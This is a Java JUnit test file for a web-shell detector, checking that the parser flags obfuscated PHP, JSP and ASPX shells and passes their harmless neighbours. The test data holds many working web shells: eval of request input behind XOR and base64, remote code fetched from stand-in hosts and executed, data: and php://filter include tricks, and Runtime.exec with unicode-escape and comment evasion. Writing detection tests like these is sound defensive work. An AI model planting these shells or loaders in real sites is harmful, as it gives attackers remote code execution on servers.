package bzh.vigie.agent.persistence.format;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.host.Files.Kind;
import bzh.vigie.agent.host.Files.Status;
import bzh.vigie.agent.host.HostPath;
import bzh.vigie.agent.persistence.format.server.WebScript;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/**
 * Pages that run what a request gives, however it gets there. They are written anew after public descriptions of how the
 * families work (ANSSI and CERT-FR, NSA and ASD "Detect and Prevent Web Shell Malware", the makers' manuals): keys, names and
 * order differ from theirs. Beside each its nearest harmless neighbour.
 */
final class WebShellFlowTest {
    /** One page a paragraph. */
    private static final String SHELLS = """
        <?php session_start(); set_time_limit(0);
        function mix($text, $salt) { for ($n = 0; $n < strlen($text); $n++) { $text[$n] = $text[$n] ^ $salt[$n + 1 & 15]; } return $text; }
        $field = 'zone'; $slot = 'store'; $salt = 'b1946ac92492d234';
        if (isset($_POST[$field])) { $body = mix(base64_decode($_POST[$field]), $salt);
        if (isset($_SESSION[$slot])) { $code = mix($_SESSION[$slot], $salt); eval($code); echo base64_encode(mix(@go($body), $salt)); }
        else { if (strpos($body, 'describe') !== false) { $_SESSION[$slot] = mix($body, $salt); } } }

        <?php session_start(); $salt = 'a87ff679a2f3e71d'; $_SESSION['s'] = $salt;
        $raw = file_get_contents('php://input');
        $way = "base64_" . "decode"; $raw = $way($raw . "");
        for ($n = 0; $n < strlen($raw); $n++) { $raw[$n] = $raw[$n] ^ $salt[$n + 1 & 15]; }
        $two = explode('|', $raw); $what = $two[1];
        class Doer { public function __invoke($line) { eval($line . ""); } }
        @call_user_func(new Doer(), $what);

        <?php $one = $_REQUEST['a']; $two = trim($one); $three = stripslashes($two); @eval($three);

        <?php @eval/* nothing */(/* to see */ $_POST /* here */ ['x']);

        <?php $make = 'cr' . 'eate_' . 'function'; $f = $make('', gzuncompress(hex2bin($_COOKIE['t']))); $f();

        <?php $f = str_replace('q', '', 'aqsqsqeqrqt'); $f($_POST['k']);

        <?php $f = chr(97) . chr(115) . "\\x73" . 'ert'; $f($_REQUEST['k']);

        <?php $l = 'abcdefghijklmnopqrstuvwxyz_'; $f = $l[18] . $l[24] . $l[18] . $l[19] . $l[4] . $l[12]; echo $f($_GET['k']);

        <?php class Page { public $text; function __destruct() { assert($this->text); } }
        $page = new Page; $page->text = $_POST['t'];

        <?php class Page { private $text; function __construct($given) { $this->text = $given; } function show() { return eval($this->text); } }
        $page = new Page(base64_decode($_POST['t'])); $page->show();

        <?php array_map('assert', (array) $_REQUEST['list']);

        <?php $list = array($_POST['v']); usort($list, 'system');

        <?php filter_var($_REQUEST['v'], FILTER_CALLBACK, array('options' => 'assert'));

        <?php $at = tempnam(sys_get_temp_dir(), 'x'); $text = base64_decode($_POST['v']); file_put_contents($at, $text); include $at; unlink($at);

        <?php file_put_contents($_POST['n'], $_POST['t']);

        <?php if (@preg_match('/8d2f(.+)77ac/', @file_get_contents('php://input'), $hit) == 1) { $plain = @gzuncompress(@base64_decode($hit[1])); @eval($plain); }

        <?php foreach ($_COOKIE as $name => $text) { $all .= $text; } eval(openssl_decrypt($all, 'AES-128-ECB', 'k'));

        <?php extract(array('z' => 1)); parse_str(file_get_contents('php://input'), $form); eval($form['a']);
        """;

    private static final String PAGES = """
        <?php session_start(); if (isset($_POST['name'])) { $_SESSION['name'] = $_POST['name']; } echo htmlspecialchars($_SESSION['name']);

        <?php $raw = file_get_contents('php://input'); $data = json_decode($raw, true); call_user_func(array($controller, 'save'), $data);

        <?php $page = $_GET['page']; $known = array('home', 'news'); if (in_array($page, $known)) { include 'pages/' . $page . '.php'; }

        <?php assert($_GET['n'] instanceof Number); assert(count($_POST) > 0);

        <?php $body = base64_decode($_POST['image']); file_put_contents('/var/www/files/' . uniqid() . '.png', $body);

        <?php $sort = 'strcasecmp'; usort($list, $sort); $f = 'ucfirst'; echo $f($_GET['name']);

        <?php $code = file_get_contents('cache/template.php'); eval($code); $q = isset($_GET['q']) ? 1 : 0; echo $q;

        <?php // eval($_POST['x']) is what attackers write
        echo 'Never use eval($' . '_POST)'; $name = $_POST['name']; $db->exec($name);

        <?php $id = (int) $_GET['id']; $rows = array_map('intval', $_POST['ids']); $stmt->execute($rows);

        <?php $callback = $settings['callback']; $callback($_POST['form']);
        """;

    /** Code that a page fetches from elsewhere at each call, as in "must-use" plugins of WordPress (Sucuri, 2025). */
    private static final String FETCHERS = """
        <?php $from = 'https://raw.code-store.example/u/k/main/p.txt'; $got = file_get_contents($from); eval("?>" . $got);

        <?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, base64_decode('aHR0cDovLzE5OC41MS4xMDAuNy9h')); $body = trim(curl_exec($c)); curl_close($c); @eval($body);

        <?php eval(wp_remote_retrieve_body(wp_remote_get(get_option('k'))));

        <?php function get($u) { $h = fopen($u, 'r'); $all = ''; while (!feof($h)) { $all .= fread($h, 8192); } return $all; }
        $text = get('http' . '://203.0.113.9/z'); eval('?>' . $text);

        <?php $s = fsockopen('203.0.113.9', 80); fwrite($s, "GET /q"); $r = fgets($s); $f = create_function('', $r); $f();

        <?php $at = sys_get_temp_dir() . '/k'; file_put_contents($at, file_get_contents('https://cdn.store.example/k')); require_once $at;

        <?php $c = curl_init('https://cdn.store.example/k'); $b = curl_exec($c); $n = tempnam('/tmp', 'a'); $h = fopen($n, 'w'); fwrite($h, $b); fclose($h); include($n);

        <?php copy('http://203.0.113.9/z.txt', $n = '/tmp/z'); include $n;
        """;

    /** Pages that include what is no file (PHP manual, Supported Protocols and Wrappers): drop-ins of WordPress that a drill planted. */
    private static final String STREAMS = """
        <?php include 'data:text/plain;base64,PD9waHAgcGhwaW5mbygpOw==';

        <?php @include_once("data://text/plain," . urlencode($t));

        <?php $k = 'data:text/plain;base64,' . strrev($x); if (!defined('A')) { require $k; }

        <?php $k = 'da' . 'ta' . '://text/plain;base64,'; include($k . get_option('z'));

        <?php $p = "da"; $q = "data:text/plain,"; include "$q$body";

        <?php include 'expect://id';

        <?php require('php://filter/convert.base64-decode/resource=' . __DIR__ . '/logo.gif');

        <?php $way = 'PHP://filter/read=string.rot13/resource=a.txt'; return include $way;

        <?php $k = base64_decode('ZGF0YTp0ZXh0L3BsYWluLGE='); include $k;

        <?php include 'p' . 'hp://fil' . 'ter/convert.base64-decode/resource=x';
        """;

    private static final String NO_STREAMS = """
        <?php include 'data/list.php'; include __DIR__ . '/data.php'; require_once 'expect.php';

        <?php $src = 'data:image/png;base64,' . base64_encode($raw); echo "<img src='$src'>"; include $template;

        <?php $text = file_get_contents('php://filter/read=string.toupper/resource=a.txt'); include $page;

        <?php $part = 'd' . $n; $page = 'p' . $n . '.php'; include $page;

        <?php /* include 'data:…' is off since allow_url_include is */ header('Content-Type: text/plain'); include $theme;

        <?php $body = file_get_contents('https://www.data.example/api'); file_put_contents($cache, $body); include $template;

        <?php $h = fopen($log, 'a'); fwrite($h, file_get_contents('https://www.data.example/api')); include $page;
        """;

    private static final String NO_FETCHERS = """
        <?php $news = json_decode(file_get_contents('https://www.data.example/api')); echo htmlspecialchars($news->title);

        <?php $c = curl_init($url); $body = curl_exec($c); assert(is_string($body)); return $body;

        <?php /* @see https://www.php.net/eval */ $f = fopen('php://memory', 'r+'); eval('return 1;');

        <?php $reply = wp_remote_get('https://api.shop.example/v1'); $parser->evaluate($reply); eval($template);
        """;

    private static final String JSP = """
        <%@ page import="java.io.*" %><% Class c = Class.forName("java.la" + "ng.Run" + "time"); Object o = c.getMethod("getRunt" + "ime").invoke(null); %>

        <% \\u0052untime.getRuntime().\\u0065xec(request.getParameter("a")); %>

        <% new FileOutputStream(application.getRealPath("/") + request.getParameter("n")).write(request.getParameter("t").getBytes()); %>

        <%! class L extends ClassLoader { L(ClassLoader p) { super(p); } Class load(byte[] b) { return super.defineClass(b, 0, b.length); } } %>

        <% Object o = new ObjectInputStream(request.getInputStream()).readObject(); %>
        """;

    private static final String ASPX = """
        <%@ Page Language="C#" %><% byte[] b = Decode(Request.BinaryRead(Request.ContentLength)); System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this); %>

        <%@ Page Language="C#" %><% var load = typeof(System.Reflection.Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }); %>

        <% dim text: text = Request("t") : execute text %>

        <%@ Page Language="Jscript"%><% var t = Request.Item["t"]; eval(t, "unsafe"); %>

        <% new LosFormatter().Deserialize(Request.Form["v"]); %>
        """;

    @Test
    void whatARequestGivesIsFollowedToWhereItIsRun() {
        assertEquals(List.of(), silent("x.php", SHELLS));
        assertEquals(List.of(), silent("x.php", FETCHERS));
        assertEquals(List.of(), silent("x.php", STREAMS));
        assertEquals(List.of(), silent("x.jsp", JSP));
        assertEquals(List.of(), silent("x.aspx", ASPX));
    }

    /** A compiler undoes escapes first, passes over characters that are ignorable in names (JLS 3.3, 3.8; javac does). */
    @Test
    void aJavaPageIsReadAsItsCompilerReadsIt() {
        String shell = """
            Process p = Runtime
            \t.getRuntime()
            .exec(request.getParameter("é"));
            """;
        for (String page : List.of(
                "<%" + escaped(shell, "\\u") + "%>",
                "<%" + escaped(shell, "\\uuuuuuuuuuuuuu") + "%>",
                "<% Run\\u200Btime.get\\u0000Runtime().ex\\u00ADec(c); %>",
                "<% Runtime.get\u0001Runtime().ex\u200bec(c); %>")) {
            assertTrue(isTold("x.jsp", page), page);
        }
        // after an even number of backslashes one begins no escape
        assertFalse(isTold("x.jsp", "<% out.print(\"Runtime.get\\\\u0052untime().exec(\"); %>"));
        assertFalse(
                isTold("x.jsp", "<% String s = \"\\u00e9t\\u00e9 \\u0022\" + \"\\ud83d\\ude00\"; out.print(s); %>"));
    }

    /** PHP manual, Strings: Heredoc, Nowdoc; the name that ends them may be indented since PHP 7.3. */
    @Test
    void anApostropheInATextUpToANameEndsNothing() {
        for (String text : List.of(
                "$t = <<<FIN\nl'accueil de la mairie\nFIN;",
                "$t = <<<'FIN'\nl'accueil \\\nFIN;",
                "echo <<<\"FIN\"\n  Bienvenue à l'accueil, \"FINE\"\n  FIN . 'x';",
                "f(<<<FIN\r\nl'accueil\r\n  FIN, 2);")) {
            String shell = "<?php " + text + "\n$c = $_POST['c'];\neval/* */($c);";
            assertTrue(isTold("x.php", shell), shell);
            String page = "<?php " + text + "\n$c = $_POST['c'];\necho htmlspecialchars($c);";
            assertFalse(isTold("x.php", page), page);
        }
        assertFalse(isTold("x.php", "<?php $t = <<<FIN\n$c = $_POST['c']; l'une\nFIN;\n$c = 1;\necho $c;"));
        assertTrue(isTold("x.php", "<?php eval(<<<FIN\nsystem(\"$_GET[c]\");\nFIN);"));
        for (String begun : List.of("<<<A\n", "<<<A\nA;", "<<<")) {
            assertFalse(isTold("x.php", "<?php " + begun.repeat(50_000)), begun);
        }
    }

    /** Comments stand between words and hide none (JLS 3.7; C# 6.3.3; Jakarta Pages 1.5). */
    @Test
    void aCommentHidesNothing() {
        for (String page : List.of(
                "<% Runtime/*a*/./*b*/getRuntime/**/(/**/)/* * / */.exec(request.getParameter(\"c\")); %>",
                "<% Runtime.getRuntime( // the machine's\n ).exec /* now */ (c); %>",
                "<% new/**/ProcessBuilder(c).start(); %>",
                "<% Class.forName(\"java.lang.Run\"/*+*/ + /*\"*/ \"time\"); %>",
                "<a href=http://www.mairie.example/>l'accueil</a> <% Runtime.getRuntime/*x*/().exec(c); %>",
                "<% \\u002f*a*\\u002fnew\\u002f**\\u002fProcessBuilder(c); %>")) {
            assertTrue(isTold("x.jsp", page), page);
        }
        for (String page : List.of(
                "<% System.Diagnostics.Process.Start/*a*/(Request[\"c\"]); %>",
                "<% System.Reflection.Assembly/**/./**/Load(Decode(Request[\"c\"])); %>")) {
            assertTrue(isTold("x.aspx", page), page);
        }
        // a slash in a literal begins none, and what ends in no comment stays
        assertFalse(isTold("x.jsp", "<% String s = \"/*\"; log(\"getRuntime\"); String t = \"*/\"; %> / * //"));
        for (String begun : List.of("/*", "<%/*%>", "<%--", "\"", "\"\\\"", "<%\"\\", "//", "<%//%>")) {
            assertFalse(isTold("x.jsp", begun.repeat(50_000)), begun);
        }
    }

    private static String escaped(String text, String mark) {
        return text.chars().mapToObj(c -> mark + String.format("%04x", c)).collect(Collectors.joining());
    }

    @Test
    void theirHarmlessNeighboursAreNoItems() {
        assertEquals(pages(PAGES), silent("x.php", PAGES));
        assertEquals(pages(NO_FETCHERS), silent("x.php", NO_FETCHERS));
        assertEquals(pages(NO_STREAMS), silent("x.php", NO_STREAMS));
        String jsp =
                "<% Class.forName(\"org.postgresql.Driver\"); new FileOutputStream(\"/tmp/log\"); out.print(\"a\" + \"b\"); %>";
        String aspx =
                "<% Assembly.Load(\"System.Web\"); string q = Request[\"q\"]; Response.Write(Server.HtmlEncode(q)); %>";
        assertFalse(isTold("x.jsp", jsp));
        assertFalse(isTold("x.aspx", aspx));
    }

    private static List<String> pages(String text) {
        return List.of(text.split("\n\n"));
    }

    private static List<String> silent(String name, String text) {
        List<String> silent = new ArrayList<>();
        for (String page : pages(text)) {
            if (!isTold(name, page)) {
                silent.add(page);
            }
        }
        return silent;
    }

    private static boolean isTold(String name, String text) {
        Status status = new Status(Kind.REGULAR, 0644, 0, 0, text.length(), 0, 0, 1, 1);
        SourceFile file = new SourceFile(HostPath.of("/var/www/html/" + name), text, status, Optional.empty(), false);
        return !new WebScript().parse(file).drafts().isEmpty();
    }
}
